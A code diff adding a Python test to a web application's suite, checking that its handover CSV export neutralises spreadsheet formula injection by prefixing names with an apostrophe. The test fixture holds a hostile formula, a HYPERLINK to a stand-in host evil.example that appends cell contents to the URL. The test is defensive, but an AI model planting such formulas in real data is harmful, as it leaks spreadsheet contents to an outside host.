@@ -116,6 +116,24 @@ def test_csv_has_the_platform_columns(client, auth, world):
         "report_due": "2026-03-12", "report_due_status": ""}  # 2026 is covered: not provisional
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+
+
+def test_csv_writes_formula_like_names_as_text(client, auth, world):
+    """An organisation (counterparty) named like a formula is exported with a leading ',
+    so a spreadsheet shows it as text; the mass stays a number."""
+    owner = world["owner"]
+    owner.name = FORMULA_NAME
+    world["park"].name = "+86 牡丹江园区"
+    db.session.commit()
+    auth.login(world["admin"].email)
+    rows = list(csv.DictReader(io.StringIO(
+        client.get("/trace/handovers.csv").get_data(as_text=True).lstrip("\ufeff"))))
+    assert {r["counterparty"] for r in rows[:3]} == {"'" + FORMULA_NAME}
+    assert {r["organisation"] for r in rows} == {"'+86 牡丹江园区"}
+    assert rows[0]["mass_kg"] == "300.00"
+
+
 def test_trace_is_for_admins_only(client, auth, world):
     auth.login(world["plant"].email)
     assert client.get("/trace/").status_code == 403
